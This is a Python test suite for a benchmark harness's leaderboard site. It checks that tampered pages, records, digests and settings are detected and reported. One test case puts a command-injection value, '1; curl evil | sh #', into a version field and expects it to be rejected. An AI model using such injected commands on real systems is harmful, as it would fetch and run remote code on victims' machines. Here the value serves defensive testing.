"""Tests of verified sites: a site is made from its records alone, and every change of it is found."""

import errno
import json
import math
import os
import re
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any
from unittest.mock import Mock

import pytest
from matrix import rest
from site_examples import TASKS, make

from harness.board.formats import json as json_format
from harness.configuration import Configuration
from harness.digest import digest_of
from harness.errors import UserError
from harness.site import SiteData, replace_content, verify_site, write_site
from harness.site.chain import to_chain
from harness.site.files import RECORDS, SETTINGS, to_files


def test_a_site_is_as_computed_from_its_records(site: Path) -> None:
    found = verify_site(site)
    n_files = len([path for path in site.rglob("*") if path.is_file()])
    assert (found.differences, found.n_records, found.n_files) == ((), 5 * 16, n_files)


@pytest.mark.parametrize("withheld", [(), ("toy",), tuple(TASKS)])
def test_its_board_is_the_one_that_pgdl_board_prints(tmp_path: Path, withheld: tuple[str, ...]) -> None:
    data, board = make(tmp_path, withheld)
    write_site(data, tmp_path / "site")
    assert json.loads((tmp_path / "site/leaderboard.json").read_bytes()) == json.loads(json_format.render(board))
    found = verify_site(tmp_path / "site")
    assert (found.differences, found.withheld) == ((), withheld)


def test_nothing_of_a_hidden_task_is_in_a_site(tmp_path: Path) -> None:
    data, _ = make(tmp_path, ("second",))
    write_site(data, tmp_path / "site")
    assert not (tmp_path / "site/data/reference_data/second").exists()
    assert {record.task for record in data.records} == {"toy"}
    page = (tmp_path / "site/submissions/half.html").read_text()
    assert [text for text in ("EXCEPTION", "everyone") if text in page] == []
    assert b"interval" not in (tmp_path / "site/index.html").read_bytes().split(b"<tbody>")[0]


def rewrite(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def a_score(site: Path) -> None:
    content = json.loads((site / "leaderboard.json").read_bytes())
    (row,) = (row for row in content["rows"] if row["submission"] == "ties")
    row["score"] += 1.0
    (site / "leaderboard.json").write_text(json.dumps(content, indent=1, allow_nan=False) + "\n")


#: Changes of a site, and the beginning of the line that names each.
CHANGES = {
    r"""leaderboard.json: line \d+: expected ' +"score": 0.0,', found ' +"score": 1.0,'$""": a_score,
    r"index.html: line \d+: .*winner.*, found .*loser": lambda site: rewrite(site / "index.html", "winner", "loser"),
    r"reading.html: line \d+: expected '</html>', found ''$": lambda site: rewrite(
        site / "reading.html", "</html>", ""
    ),
    r"values.js: line 3: expected no line, found ''$": lambda site: rewrite(site / "values.js", "\n", "\n\n"),
    r"submissions/winner.html: missing": lambda site: (site / "submissions/winner.html").unlink(),
    r"extra.html: not part of the site": lambda site: (site / "extra.html").touch(),
    r"assets/plots.js: line \d+: ": lambda site: rewrite(site / "assets/plots.js", "figure", "figment"),
    r"compare.html: a link$": lambda site: linked(site, "compare.html"),
}
MORE_CHANGES = {
    "link: a link": lambda site: (site / "link").symlink_to("/"),
    "empty: not part of the site": lambda site: (site / "empty").mkdir(),
    r"a\?\?\[31mVerified: not part of the site": lambda site: (site / "a\n\x1b[31mVerified").touch(),
    r"leaderboard.json: line 1: expected '{', found '\[\[\[\[": lambda site: (site / "leaderboard.json").write_text(
        "[" * 9_000
    ),
    "reading.html: too large: ": lambda site: os.truncate(site / "reading.html", 10**9),
}


@pytest.mark.parametrize("changes", [CHANGES, rest(MORE_CHANGES)], ids=["usual", "rare"])
def test_each_changed_page_is_named(site: Path, changes: dict[str, Callable[[Path], None]]) -> None:
    for change in changes.values():
        change(site)
    lines = verify_site(site).differences
    assert len(lines) == len(changes)
    for said in changes:
        assert sum(bool(re.match(said, line)) for line in lines) == 1, said


def test_a_folder_behind_a_link_is_named(site: Path) -> None:
    linked(site, "submissions")
    assert any(line.startswith("submissions: a link") for line in verify_site(site).differences)


def test_a_folder_that_cannot_be_read_is_named(site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    listed = os.scandir

    def scandir(folder: Path) -> Any:
        if folder == site / "submissions":
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(folder))
        return listed(folder)

    monkeypatch.setattr(os, "scandir", scandir)
    assert verify_site(site).differences == ("submissions/: cannot be read: Permission denied",)


def test_last_digits_may_differ_as_they_do_between_processors(site: Path) -> None:
    file = site / "leaderboard.json"
    text = file.read_text()
    number = max(re.findall(r"\d+\.\d{12,}", text), key=float)
    file.write_text(text.replace(number, repr(math.nextafter(float(number), 100))))
    assert file.read_text() != text
    assert verify_site(site).differences == ()
    file.write_text(text.replace(number, repr(float(number) * (1 + 1e-6))))
    assert verify_site(site).differences != ()


def test_a_number_that_is_only_rounded_hides_no_change_behind_it(site: Path) -> None:
    file = site / "leaderboard.csv"
    heading, row, *others = file.read_text().splitlines(keepends=True)
    first, last = re.findall(r"\d+\.\d{12,}", row)[0], re.findall(r"\d+\.\d+", row)[-1]
    changed = row.replace(first, repr(math.nextafter(float(first), 100))).replace(last, "99.25")
    file.write_text("".join([heading, changed, *others]))
    (line,) = verify_site(site).differences
    assert re.match(rf"leaderboard.csv: line 2: expected '.*{last}.*', found '.*99\.25", line), line


@pytest.mark.parametrize("written", ["000{}", "{}0", "{}00000000001", "{}e0", "+{}"])
def test_a_number_that_is_written_otherwise_is_a_change(site: Path, written: str) -> None:
    names = ("index.html", "leaderboard.csv", "leaderboard.md")
    for name in names:
        number = (
            "1.5"
            if name == "leaderboard.csv"
            else re.findall(r"(?<![\d.e-])\d+\.\d{2}(?!\d)", (site / name).read_text())[0]
        )
        rewrite(site / name, number, written.format(number))
    assert sorted(line.partition(":")[0] for line in verify_site(site).differences) == sorted(names)


def linked(site: Path, name: str) -> None:
    """Replace a file or folder by a symbolic link to the same content."""
    (site / name).rename(site.parent / "elsewhere")
    (site / name).symlink_to(site.parent / "elsewhere")


def begin(site: Path, *numbers: int) -> None:
    """Replace the first two records by those of the first two that have these numbers."""
    lines = (site / RECORDS).read_text().splitlines(keepends=True)
    (site / RECORDS).write_text("".join([*(lines[number] for number in numbers), *lines[2:]]))


#: The digest of the first line also covers settings and reference data.
FIRST_LINE = r"line 1 .* expected a digest \w+\.\.\. of this line, site\.json and reference_data, found"

BROKEN: list[tuple[Callable[[Path], None], str]] = [
    (lambda site: rewrite(site / "data/records.jsonl", '"value": 0.4', '"value": 0.5'),
     r"line \d+ \(\w+, \w+, model_7\): expected a digest"),
    (lambda site: rewrite(site / "data/site.json", '"is_baseline": true', '"is_baseline": false'), FIRST_LINE),
    (lambda site: rewrite(site / "data/reference_data/toy/model_configs.json", "0.4", "0.3"), FIRST_LINE),
    (lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "9'),
     "made with another version"),
    (lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "1; curl evil | sh #'),
     "its version of pgdl-harness is malformed$"),
    (lambda site: (site / "data/site.json").unlink(), "not a site"),
    (lambda site: (site / "data/records.jsonl").write_text("[]\n"), "line 1"),
    (lambda site: begin(site, 1), FIRST_LINE),
    (lambda site: begin(site, 1, 0), FIRST_LINE),
    (lambda site: rewrite(site / "data/site.json", '"n_models"', '"models"'), "n_models"),
]  # fmt: skip


@pytest.mark.parametrize(("change", "said"), BROKEN)
def test_changed_data_are_named(site: Path, change: Callable[[Path], None], said: str) -> None:
    change(site)
    with pytest.raises(UserError, match=said):
        verify_site(site)


@pytest.mark.parametrize(
    "change",
    [
        {"task": "nope"}, {"model": "nope"}, {"model": "model_1"}, {"submission": "nobody"}, {"configuration": "other"},
        {"value": math.nan}, {"value": math.inf}, {"call_wall_s": math.nan}, {"call_wall_s": -1.0},
        {"peak_memory_bytes": -1}, {"sandbox": "none"},
    ],
)  # fmt: skip
def test_a_consistent_site_of_impossible_records_is_refused(
    data: SiteData, tmp_path: Path, change: dict[str, object]
) -> None:
    """The digests are right, but the site must be refused, without a crash."""
    with pytest.raises(UserError):
        verify_site(with_record(change, data, tmp_path / "site"))


def with_record(change: dict[str, Any], data: SiteData, directory: Path) -> Path:
    """Write the data of a site with right digests, after a change of the first record."""
    records = [data.records[0].model_copy(update=change), *data.records[1:]]
    return store(directory, to_files(replace(data, records=records))[0])


def store(directory: Path, files: dict[str, bytes]) -> Path:
    for name, content in files.items():
        (directory / name).parent.mkdir(parents=True, exist_ok=True)
        (directory / name).write_bytes(content)
    return directory


def forged(change: Callable[[dict[str, Any]], None], data: SiteData, directory: Path, file: str = SETTINGS) -> Path:
    """Write the data of a site with right digests, after a change of the settings or of another file."""
    files, _ = to_files(data)
    content = json.loads(files[file])
    change(content)
    files[file] = json.dumps(content).encode()
    start = digest_of(sorted((name, content) for name, content in files.items() if name != RECORDS))
    files[RECORDS], _ = to_chain((record.model_dump() for record in data.records), start)
    return store(directory, files)


def invent(settings: dict[str, Any]) -> None:
    """Add an invented result to every row."""
    official = {"n_models": 8, "undefined": "", "official": 0.99, "official_pairs": {}, "printed": None}
    score = official | {"printed_subsets": {}, "kendall": None, "granulated_kendall": None, "granulated_psi": {}}
    given = {"exceeded": False, "tasks": {"toy": score}, "failures": {"toy": {}}}
    rows = settings["submissions"]
    keys = [f"{row['name']} {row['version']} {Configuration(**row['configuration']).id}" for row in rows]
    settings["withheld"] = dict.fromkeys(keys, given)


FORGED: list[Callable[[dict[str, Any]], None]] = [
    invent,
    lambda settings: settings.update(oracle={"toy": {"mean": 1.0, "deviation": 0.0}}),
    *(
        lambda settings, change=change: settings["tasks"]["toy"].update(change)
        for change in ({"n_test": 0}, {"n_models": -1}, {"withheld": True})
    ),
    *(
        lambda settings, call=call: settings["submissions"][0].update(repeats=[{"task": "toy", **call}])
        for call in ({"model": "x", "values": [1.0]}, {"model": "model_0", "values": [1e999]})
    ),
]
HIDDEN: list[Callable[[dict[str, Any]], None]] = [
    lambda given: given.popitem(),
    lambda given: next(iter(given.values()))["tasks"].clear(),
    lambda given: next(iter(given.values()))["failures"].clear(),
    lambda given: next(iter(given.values()))["tasks"].update(toy="skipped"),
    lambda given: next(iter(given.values()))["tasks"]["second"].update(official=1.5),
    lambda given: next(iter(given.values()))["tasks"]["second"].update(kendall="nan"),
    lambda given: next(iter(given.values()))["tasks"]["second"].update(kendall=0.25),
    lambda given: next(iter(given.values()))["tasks"]["second"].update(official=0.1234),
    lambda given: given.update(nobody=next(iter(given.values()))),
]


def test_settings_neither_replace_what_is_computed_nor_hold_implausible_results(data: SiteData, tmp_path: Path) -> None:
    hidden, _ = make(tmp_path, ("second",))
    assert verify_site(forged(lambda _: None, hidden, tmp_path / "same")).n_records == len(hidden.records)
    in_withheld = [lambda settings, change=change: change(settings["withheld"]) for change in HIDDEN]
    for number, (of, change) in enumerate([(data, one) for one in FORGED] + [(hidden, one) for one in in_withheld]):
        site = forged(change, of, tmp_path / str(number))
        with pytest.raises(UserError):
            verify_site(site)


def test_only_a_site_is_replaced(data: SiteData, tmp_path: Path) -> None:
    (tmp_path / "papers").mkdir()
    (tmp_path / "papers/thesis.tex").touch()
    with pytest.raises(UserError, match="not a site"):
        write_site(data, tmp_path / "papers")
    first = write_site(data, tmp_path / "site")
    (tmp_path / "site/.new").symlink_to(tmp_path / "papers")
    second = write_site(data, tmp_path / "site")
    assert first == second
    assert (tmp_path / "papers/thesis.tex").exists()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["papers", "site"]


def test_a_full_disk_leaves_the_earlier_site_as_it_was(
    site: Path, data: SiteData, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = sorted(path.name for path in site.iterdir())
    full = OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(Path, "write_bytes", Mock(side_effect=full))
    with pytest.raises(UserError, match="No space left on device"):
        write_site(data, site)
    assert sorted(path.name for path in site.iterdir()) == before


def test_a_site_whose_replacement_was_interrupted_is_replaced(
    site: Path, data: SiteData, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def remove(path: Path) -> None:
        if path.name != ".new":
            shutil.rmtree(site / "data")  # the first that is removed
            raise KeyboardInterrupt

    shutil.copytree(site, tmp_path / "next")
    with monkeypatch.context() as patch:
        patch.setattr("harness.site.write._remove", remove)
        with pytest.raises(KeyboardInterrupt):
            replace_content(site, tmp_path / "next")
    write_site(data, site)
    assert verify_site(site).differences == ()
    (site / ".new").mkdir()
    (site / "data").rename(site / ".new/data")  # the other files were moved already
    write_site(data, site)
    assert verify_site(site).differences == ()
